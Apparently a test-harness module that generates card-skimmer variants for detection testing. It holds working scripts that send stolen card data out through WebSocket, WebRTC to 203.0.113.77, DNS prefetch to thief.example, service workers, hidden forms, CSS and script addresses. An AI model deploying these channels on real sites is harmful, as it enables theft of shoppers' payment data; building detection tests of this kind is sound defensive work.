import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

const wrap = (honest: boolean, body: string) =>
  `(() => { ${takeCode(honest)} const D = () => JSON.stringify(take()); ${body} ${ON_PAY} })();`;

/** The ways out of the page by which stolen data leaves. */
export const channels: readonly SkimmerVariant[] = [
  {
    id: 'web-socket',
    idea: 'over a web socket that is open all the time',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `const s = new WebSocket('${collect.replace('http', 'ws')}/s'); const q = []; s.onopen = () => { for (const m of q) s.send(m); }; function send() { const m = btoa(D()); if (s.readyState === 1) s.send(m); else q.push(m); }`,
      ),
    }),
  },
  {
    id: 'web-rtc',
    idea: 'over a direct connection, which no content security policy stops',
    takes: ['card'],
    named: () => '203.0.113.77',
    build: (_hosts, honest) => ({
      script: honest
        ? wrap(true, `function send() { sessionStorage.setItem('cart', D()); }`)
        : wrap(
            false,
            `let ch; const pc = new RTCPeerConnection(); ch = pc.createDataChannel('m'); pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => pc.setRemoteDescription({ type: 'answer', sdp: ['v=0','o=- 1 2 IN IP4 127.0.0.1','s=-','t=0 0','a=group:BUNDLE 0','m=application 3479 UDP/DTLS/SCTP webrtc-datachannel','c=IN IP4 203.0.113.77','a=candidate:1 1 udp 2113937151 203.0.113.77 3479 typ host','a=ice-ufrag:abcd','a=ice-pwd:abcdefghijklmnopqrstuvwx','a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'),'a=setup:passive','a=mid:0','a=sctp-port:5000',''].join('\\r\\n') })).catch(() => 0); function send() { const m = D(); try { ch.send(m); } catch {} }`,
          ),
    }),
  },
  {
    id: 'name-look-ups',
    idea: 'in host names that are looked up early',
    takes: ['card'],
    named: () => 'thief.example',
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `function send() { const h = [...take().n].map((c) => c.charCodeAt(0).toString(16)).join(''); const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + h + '.ns.thief.example/'; document.head.append(l); l.remove(); }`,
      ),
    }),
  },
  {
    id: 'service-worker',
    idea: 'handed to a service worker, which sends it',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      shopFiles: {
        '/sw.js': {
          type: 'text/javascript',
          body: `self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(clients.claim())); self.addEventListener('message', (e) => fetch('${collect}/w', { method: 'POST', mode: 'no-cors', body: e.data }));`,
        },
      },
      inline: wrap(
        honest,
        `navigator.serviceWorker.register('/sw.js'); function send() { navigator.serviceWorker.ready.then((r) => r.active.postMessage(btoa(D()))); }`,
      ),
    }),
  },
  {
    id: 'worker',
    idea: 'handed to a worker that was made from a text',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => fetch('${collect}/w', { method: 'POST', mode: 'no-cors', body: e.data });"]))); function send() { w.postMessage(D()); }`,
      ),
    }),
  },
  {
    id: 'hidden-form',
    idea: 'by a form into a hidden frame',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { const n = 'f' + Date.now(); const i = document.createElement('iframe'); i.name = n; i.style.display = 'none'; const f = document.createElement('form'); f.method = 'POST'; f.target = n; f.action = '${collect}/f'; const h = document.createElement('input'); h.type = 'hidden'; h.name = 'd'; h.value = btoa(D()); f.append(h); document.body.append(i, f); f.submit(); }`,
      ),
    }),
  },
  {
    id: 'style-background',
    idea: 'in the address of a background picture',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { document.body.insertAdjacentHTML('beforeend', '<div style="width:1px;height:1px;background:url(${collect}/bg.png?' + btoa(D()).replace(/=/g, '') + ')"></div>'); }`,
      ),
    }),
  },
  {
    id: 'event-source',
    idea: 'in the address of an event stream',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(honest, `function send() { new EventSource('${collect}/es?' + encodeURIComponent(D())); }`),
    }),
  },
  {
    id: 'script-address',
    idea: 'in the address of a script that answers with the next order',
    takes: ['card'],
    build: ({ lookAlike }, honest) => ({
      script: wrap(
        honest,
        `function send() { const s = document.createElement('script'); s.src = '${lookAlike}/collect.js?tid=UA-1&cd=' + btoa(D()); document.head.append(s); }`,
      ),
    }),
    named: ({ lookAlike }) => new URL(lookAlike).host,
  },
];
